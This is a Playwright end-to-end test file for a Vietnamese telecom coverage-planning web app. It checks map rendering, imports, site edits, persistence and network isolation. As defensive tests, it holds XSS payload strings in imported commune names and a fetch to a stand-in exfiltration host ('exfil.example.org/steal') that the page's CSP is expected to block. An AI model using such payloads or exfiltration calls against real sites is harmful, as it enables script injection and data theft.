import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { openApp, startHarness, waitForMapIdle, type Harness, waitForCsvRead } from './harness';
import { countColour, countWhere, decodePng, findColour } from './pixels';

const OUT = 'test-results';
const REAL_2024 = '../shared/data/daknong/communes-2024.geojson';
mkdirSync(OUT, { recursive: true });

const isCoverageGreen = (r: number, g: number, b: number) => g > r + 25 && g > b + 20;

async function mapPixels(page: Page, name: string) {
  const png = await page.locator('[data-testid="map"]').screenshot({ path: `${OUT}/${name}.png` });
  return decodePng(png);
}

const tableRows = '[data-testid="commune-table"] tbody tr';

/** The commune table's body as text: a line per commune, its cells joined (name, population, 4G area, …). */
const tableText = (page: Page) => page.evaluate(readTableInPage, tableRows);
function readTableInPage(sel: string): string {
  return [...document.querySelectorAll(sel)].map((tr) => [...tr.querySelectorAll('td')].map((td) => td.innerText).join(' | ')).join('\n');
}
/** In the page (serialised on its own): whether the table reads `text` (same) or anything else (not same). */
function tableMatches([sel, text, same]: readonly [string, string, boolean]): boolean {
  const now = [...document.querySelectorAll(sel)].map((tr) => [...tr.querySelectorAll('td')].map((td) => td.innerText).join(' | ')).join('\n');
  return (now === text) === same;
}
const pct = (text: string): number => parseFloat(text.replace(',', '.'));
/** Body columns: name 0, population 1, 4G area 2, 4G population 3, 4G villages 4, 5G population 5. */
const AREA_4G = 2;
const POP_5G = 5;

/**
 * Drags a 5G site out of the province in move mode and waits for the commune table to change: some commune's 4G
 * area or 5G people drop (the province totals may not move at their 0.1 % where neighbours overlap the site).
 */
async function drag5gSiteOut(page: Page, shot: string): Promise<{ before: string; after: string; releasedAt: number }> {
  const before = await tableText(page);
  await page.getByTestId('layer-sectors').uncheck();
  await page.getByTestId('site-colour').selectOption('technology');
  await waitForMapIdle(page);
  const img = await mapPixels(page, `${shot}-sites-by-tech`);
  const at = findColour(img, [118, 42, 131]);
  assert.ok(at, 'a 5G (purple) site is visible');
  const box = await page.getByTestId('map').boundingBox();
  assert.ok(box);
  await page.getByTestId('tool-move').click();
  await page.mouse.move(box.x + at.x, box.y + at.y);
  await page.mouse.down();
  for (let i = 1; i <= 10; i++) {
    await page.mouse.move(box.x + at.x + ((20 - at.x) * i) / 10, box.y + at.y + ((box.height - 40 - at.y) * i) / 10);
  }
  const releasedAt = Date.now();
  await page.mouse.up();
  await page.getByTestId('reset-edits').waitFor();
  await page.waitForFunction(tableMatches, [tableRows, before, false] as const, { timeout: 30_000 });
  const after = await tableText(page);
  const rows = (t: string) => t.split('\n').map((line) => line.split(' | '));
  const [b, a] = [rows(before), rows(after)];
  const changed = (col: number, sign: number) => b.some((row, i) => sign * (pct(a[i]?.[col] ?? '') - pct(row[col] ?? '')) > 0);
  assert.ok(changed(AREA_4G, -1) || changed(POP_5G, -1), 'some commune lost 4G area or 5G people');
  assert.ok(!changed(AREA_4G, 1) && !changed(POP_5G, 1), 'no commune gained 4G area or 5G people');
  await page.screenshot({ path: `${OUT}/${shot}.png` });
  return { before, after, releasedAt };
}

async function setLayer(page: Page, id: string, on: boolean) {
  const box = page.getByTestId(`layer-${id}`);
  if ((await box.isChecked()) !== on) await box.click();
}

describe('PhuSong in Chromium', () => {
  let h: Harness;
  let page: Page;
  let errors: string[];

  before(async () => {
    h = await startHarness();
    ({ page, errors } = await openApp(h));
  });
  after(async () => {
    await h?.close();
  });

  it('opens on the labelled demo province with coverage, sites, fibre and district outlines drawn', async () => {
    assert.match(await page.getByTestId('demo-notice').innerText(), /tạo tự động/);
    const img = await mapPixels(page, 'demo-map');
    const total = img.width * img.height;
    const green = countWhere(img, isCoverageGreen);
    assert.ok(green > total * 0.05, `coverage should colour >5% of the map, got ${green}/${total}`);
    assert.ok(countColour(img, [226, 0, 43], 20) > 200, 'Viettel sites (red) drawn');
    assert.ok(countColour(img, [0, 114, 188], 20) > 100, 'VNPT sites (blue) drawn');
    assert.ok(countColour(img, [74, 83, 88], 18) > 300, 'district outlines drawn');
    assert.ok(countColour(img, [223, 231, 234], 3) > total * 0.05, 'offline background drawn around the province');
    const rows = await page.locator('[data-testid="commune-table"] tbody tr').count();
    assert.equal(rows, 71);
    // The header says what the user waited (since the page opened), beside the engine's own time.
    assert.match(await page.getByTestId('status').innerText(), /^Sẵn sàng sau \d+(,\d)? (s|ms) \(tính vùng phủ \d+(,\d)? (s|ms)(, \d luồng)?\)$/);
  });

  it('is cross-origin isolated, so the full build runs on two threads sharing buffers (with the terrain term, its sweeps)', async () => {
    assert.equal(await page.evaluate(() => crossOriginIsolated), true);
    // The cold build with terrain: the band helper sweeps half the sites' terrain windows.
    assert.equal(await page.getAttribute('[data-testid="status"]', 'data-build-threads'), '2');
    // Without terrain, the helper paints half the rows.
    await page.getByTestId('terrain-model').uncheck();
    await page.waitForSelector('[data-testid="status"][data-build-threads="2"][data-state="ready"]', { timeout: 60_000 });
    // Terrain back on: every window is in the cache, nothing to sweep, and footprints with a terrain term are painted
    // by the coverage worker alone.
    await page.getByTestId('terrain-model').check();
    await page.waitForSelector('[data-testid="status"][data-build-threads="1"][data-state="ready"]', { timeout: 60_000 });
    await waitForMapIdle(page);
  });

  it('hides the coverage layer when it is toggled off', async () => {
    await setLayer(page, 'coverage', false);
    await waitForMapIdle(page);
    const img = await mapPixels(page, 'coverage-off');
    const green = countWhere(img, isCoverageGreen);
    assert.ok(green < img.width * img.height * 0.002, `no coverage colour expected, got ${green}`);
    assert.ok(countColour(img, [247, 245, 238], 4) > img.width * img.height * 0.1, 'commune land fill visible without coverage');
    await setLayer(page, 'coverage', true);
  });

  it('shows a clicked commune in the details panel with its figures', async () => {
    for (const id of ['sites', 'sectors', 'fibre', 'coverage']) await setLayer(page, id, false);
    await waitForMapIdle(page);
    const box = await page.getByTestId('map').boundingBox();
    assert.ok(box);
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    const details = page.getByTestId('details');
    await details.locator('h3').waitFor({ timeout: 5000 });
    const text = await details.innerText();
    assert.match(text, /(Xã|Phường|Thị trấn) \S+/);
    assert.match(text, /Dân số\s+[\d.]+/);
    assert.match(text, /4G\s+[\d,]+ %/);
    await page.screenshot({ path: `${OUT}/commune-clicked.png` });
    for (const id of ['sites', 'sectors', 'fibre', 'coverage']) await setLayer(page, id, true);
  });

  it('switches the interface to English', async () => {
    await page.getByTestId('lang').selectOption('en');
    assert.match(await page.locator('header').innerText(), /Telecom infrastructure planner/);
    assert.match(await page.getByTestId('demo-notice').innerText(), /generated and approximate/);
    await page.getByTestId('lang').selectOption('vi');
  });

  it('imports a GeoJSON fibre file, reports its bad feature and keeps the other layers', async () => {
    const sitesBefore = await page.locator('[data-testid="commune-table"] tfoot td').last().innerText();
    await page.getByTestId('import-input').setInputFiles('tests/fixtures/e2e/fibre-with-bad-row.geojson');
    const notice = page.locator('.notice').last();
    await notice.waitFor({ timeout: 10_000 });
    const text = await notice.innerText();
    assert.match(text, /Đã nhập 2 đối tượng từ fibre-with-bad-row\.geojson/);
    assert.match(text, /1 vấn đề/);
    await notice.locator('summary').click();
    assert.match(await notice.locator('details').innerText(), /✖ đối tượng 2: bị loại: tọa độ \[107\.5, "abc"\] không phải là số/);
    await page.waitForSelector('[data-testid="status"][data-state="ready"]');
    assert.equal(await page.locator('[data-testid="commune-table"] tfoot td').last().innerText(), sitesBefore);
    await page.screenshot({ path: `${OUT}/after-import.png` });
  });

  it('accepts a GeoJSON file dropped onto the map; replacing the fibre imported before is asked first, saying what goes', async () => {
    const text = readFileSync('tests/fixtures/e2e/fibre-with-bad-row.geojson', 'utf8');
    const before = await page.locator('.notice').count();
    await page.evaluate((content) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([content], 'dropped-fibre.geojson', { type: 'application/geo+json' }));
      const target = document.querySelector('.dropzone');
      target?.dispatchEvent(new DragEvent('dragover', { dataTransfer: transfer, bubbles: true, cancelable: true }));
      target?.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }, text);
    // The fibre layer now holds the two routes imported above, real data: the layer dialog asks before replacing it.
    await page.getByTestId('import-layer-dialog').waitFor({ timeout: 20_000 });
    assert.match(await page.getByTestId('import-layer-replaces').innerText(), /^Sẽ thay toàn bộ lớp .+ hiện có: 2 đối tượng\.$/);
    await page.getByTestId('import-commit').click();
    await page.locator('.notice', { hasText: 'dropped-fibre.geojson' }).waitFor({ timeout: 20_000 });
    assert.ok((await page.locator('.notice').count()) > before);
    await page.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
  });

  it('drags a 5G site out of the province in move mode: the coverage drops, discarding restores it', async () => {
    const { before } = await drag5gSiteOut(page, 'site-dragged');
    await page.getByTestId('reset-edits').click();
    await page.waitForFunction(tableMatches, [tableRows, before, true] as const, { timeout: 60_000 });
    await page.keyboard.press('Escape');
    assert.equal(await page.getByTestId('tool-move').getAttribute('aria-pressed'), 'false');
    assert.equal(await page.getByTestId('tool-select').getAttribute('aria-pressed'), 'true');
  });

  it('keeps a moved site and its figures across a page reload (IndexedDB)', async () => {
    const fresh = await h.browser.newPage({ viewport: { width: 1500, height: 900 } });
    await fresh.goto(h.baseUrl);
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    await waitForMapIdle(fresh);
    const { after, releasedAt } = await drag5gSiteOut(fresh, 'before-reload');
    await fresh.waitForFunction(
      (t) => {
        const el = document.querySelector('[data-testid="saved-state"]');
        return el?.getAttribute('data-state') === 'saved' && Date.parse(el.getAttribute('data-saved-at') ?? '') >= t;
      },
      releasedAt,
      { timeout: 10_000 },
    );
    await fresh.reload();
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    assert.match(await fresh.getByTestId('reset-edits').innerText(), /Bỏ 1 thay đổi/);
    assert.equal(await tableText(fresh), after);
    await fresh.close();
  });

  it('edits a link budget preset: weaker 4G 1800 antennas shrink 4G area, bad input is named, defaults restore', async () => {
    const area4g = () => page.locator('[data-testid="commune-table"] tfoot td').nth(1).innerText();
    const before = await area4g();
    await page.locator('.radio-settings summary').click();
    const preset = page.getByTestId('budget-preset');
    const options = await preset.locator('option').allInnerTexts();
    await preset.selectOption({ index: options.findIndex((o) => o.startsWith('4G 1800')) });
    const gain = page.getByTestId('budget-antennaGainDbi');
    await gain.fill('abc');
    assert.match(await page.locator('.radio-settings [role="alert"]').innerText(), /4G 1800 · .*"abc"/);
    await gain.fill('3');
    await page.waitForFunction((b) => document.querySelectorAll('[data-testid="commune-table"] tfoot td')[1]?.textContent !== b, before, { timeout: 60_000 });
    const weaker = await area4g();
    assert.ok(parseFloat(weaker.replace(',', '.')) < parseFloat(before.replace(',', '.')), `4G area ${before} → ${weaker}`);
    await page.locator('.radio-settings button', { hasText: 'Khôi phục mặc định' }).click();
    await page.waitForFunction((b) => document.querySelectorAll('[data-testid="commune-table"] tfoot td')[1]?.textContent === b, before, { timeout: 60_000 });
    await page.locator('.radio-settings summary').click();
  });

  it('imports the real 2024 commune boundaries and reports on them', { skip: !existsSync(REAL_2024) && 'no ../shared data' }, async () => {
    await page.getByTestId('import-input').setInputFiles(REAL_2024);
    await page.locator('.notice', { hasText: 'communes-2024.geojson' }).waitFor({ timeout: 20_000 });
    await page.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    await page.waitForFunction(() => /622\.168/.test(document.querySelector('[data-testid="commune-table"] tfoot')?.textContent ?? ''), null, { timeout: 60_000 });
    assert.equal(await page.locator('[data-testid="commune-table"] tbody tr').count(), 71);
    await waitForMapIdle(page);
    await page.screenshot({ path: `${OUT}/real-boundaries.png` });
  });

  it('renders imported names that are XSS payloads as plain text, never as markup', async () => {
    await page.getByTestId('import-input').setInputFiles('tests/fixtures/e2e/units-xss.geojson');
    // With ../shared, the real 2024 boundaries imported above are replaced: that is asked first.
    if (existsSync(REAL_2024)) await page.getByTestId('import-commit').click();
    await page.locator('.notice', { hasText: 'units-xss.geojson' }).waitFor({ timeout: 20_000 });
    await page.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    const rows = page.locator('[data-testid="commune-table"] tbody tr');
    await page.waitForFunction(() => document.querySelectorAll('[data-testid="commune-table"] tbody tr').length === 2);
    assert.match(await rows.first().innerText(), /<img src=x onerror="window.__xss=1">/);
    await rows.first().click();
    assert.match(await page.getByTestId('details').innerText(), /<script>window.__xss=2<\/script>/);
    await rows.nth(1).hover();
    assert.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
    assert.equal(await page.locator('img[src="x"], b[onmouseover]').count(), 0);
  });

  it('sends no request outside its own origin on start-up, import, export and print; only the basemap the user turns on does', async () => {
    const context = await h.browser.newContext({ viewport: { width: 1400, height: 900 }, acceptDownloads: true });
    // Violations of the page's CSP, recorded as the page sees them (a blocked request never reaches the network).
    await context.addInitScript(() => {
      const w = window as unknown as { __csp: string[] };
      w.__csp = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));
    });
    const fresh = await context.newPage();
    const foreign: string[] = [];
    fresh.on('request', (r) => {
      const url = r.url();
      if (!url.startsWith(h.baseUrl) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url);
    });
    /** A copy (assert.deepEqual would otherwise narrow `foreign` to an empty tuple for the rest of the test). */
    const sent = (): string[] => [...foreign];
    const violations = () => fresh.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
    const downloadOf = async (click: () => Promise<void>) => {
      const [dl] = await Promise.all([fresh.waitForEvent('download', { timeout: 180_000 }), click()]);
      return dl.suggestedFilename();
    };

    await fresh.goto(h.baseUrl);
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 90_000 });
    await waitForMapIdle(fresh);
    assert.deepEqual(sent(), [], 'start-up');

    await fresh.getByTestId('import-input').setInputFiles('tests/fixtures/e2e/fibre-with-bad-row.geojson');
    await fresh.locator('.notice', { hasText: 'fibre-with-bad-row.geojson' }).waitFor({ timeout: 30_000 });
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    await fresh.getByTestId('import-input').setInputFiles('tests/fixtures/csv/sites-messy.csv');
    await waitForCsvRead(fresh, 60_000);
    await fresh.getByTestId('import-next').click();
    await fresh.getByTestId('import-mode-add').check();
    await fresh.getByTestId('import-commit').click();
    await fresh.getByTestId('import-csv-dialog').waitFor({ state: 'detached' });
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 60_000 });
    assert.deepEqual(sent(), [], 'import of a GeoJSON layer and a site CSV');

    await fresh.getByTestId('export-menu').click();
    assert.match(await downloadOf(() => fresh.getByTestId('export-sites-csv').click()), /\.csv$/);
    await fresh.getByTestId('export-menu').click();
    assert.match(await downloadOf(() => fresh.getByTestId('export-coverage-png').click()), /\.(png|zip)$/);
    assert.deepEqual(sent(), [], 'exports');

    await fresh.getByTestId('print-open').click();
    await fresh.waitForSelector('[data-testid="print-preview"][data-ready="true"]', { timeout: 120_000 });
    assert.match(await downloadOf(() => fresh.getByTestId('print-pdf').click()), /\.pdf$/);
    await fresh.getByTestId('print-close').click();
    assert.deepEqual(sent(), [], 'print to PDF');
    assert.deepEqual(await violations(), [], 'nothing the app does itself is blocked by its CSP');

    // The user types an online tile server and turns the basemap on: now, and only now, requests leave, and only to it.
    const settings = fresh.locator('section', { has: fresh.locator('input[type="url"]') });
    const runtimePolicy = () => fresh.locator('meta[http-equiv="Content-Security-Policy"][data-basemap-origin]').getAttribute('content');
    assert.equal(await runtimePolicy(), "connect-src 'self' data: blob:", 'before any basemap is entered the page may reach no other host');
    await settings.locator('input[type="url"]').fill('https://tiles.example.invalid/{z}/{x}/{y}.png');
    await settings.locator('input[type="checkbox"]').check();
    await waitForMapIdle(fresh);
    assert.deepEqual(sent(), [], 'a host the page policy does not allow yet gets no request');
    assert.match(await fresh.getByTestId('basemap-hint').innerText(), /https:\/\/tiles\.example\.invalid/);
    await fresh.waitForSelector('[data-testid="saved-state"][data-state="saved"]', { timeout: 30_000 });
    await fresh.getByTestId('basemap-reload').click();
    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 90_000 });
    assert.equal(await runtimePolicy(), "connect-src 'self' data: blob: https://tiles.example.invalid", 'after the reload the policy names that one host');
    const tile = fresh.waitForEvent('request', { predicate: (r) => r.url().startsWith('https://tiles.example.invalid/'), timeout: 30_000 });
    await settings.locator('input[type="checkbox"]').check();
    await tile;
    assert.ok(sent().length > 0 && sent().every((u) => u.startsWith('https://tiles.example.invalid/')), sent().slice(0, 3).join(' '));
    assert.deepEqual(await violations(), [], 'the CSP lets the basemap tiles through');

    // Page script asking any other https host is refused by the browser, not by our code.
    const other = await fresh.evaluate(
      () =>
        new Promise<string>((resolve) => {
          setTimeout(() => {
            fetch('https://exfil.example.org/steal?x=1').then(() => resolve('sent'), () => resolve('refused'));
          }, 0);
        }),
    );
    assert.equal(other, 'refused');
    assert.ok((await violations()).some((v) => v.startsWith('connect-src https://exfil.example.org')), (await violations()).join(' | '));
    assert.ok(!sent().some((u) => u.includes('exfil.example.org')), 'the refused request never reached the network');

    const csp = await fresh.locator('meta[http-equiv="Content-Security-Policy"]').first().getAttribute('content');
    assert.match(csp ?? '', /default-src 'self'/);
    assert.doesNotMatch(csp ?? '', /unsafe-eval/);
    await fresh.screenshot({ path: `${OUT}/network-basemap-on.png` });
    await context.close();
  });

  it('raised no page errors', () => {
    assert.deepEqual(errors.filter((e) => !/favicon/.test(e)), []);
  });
});
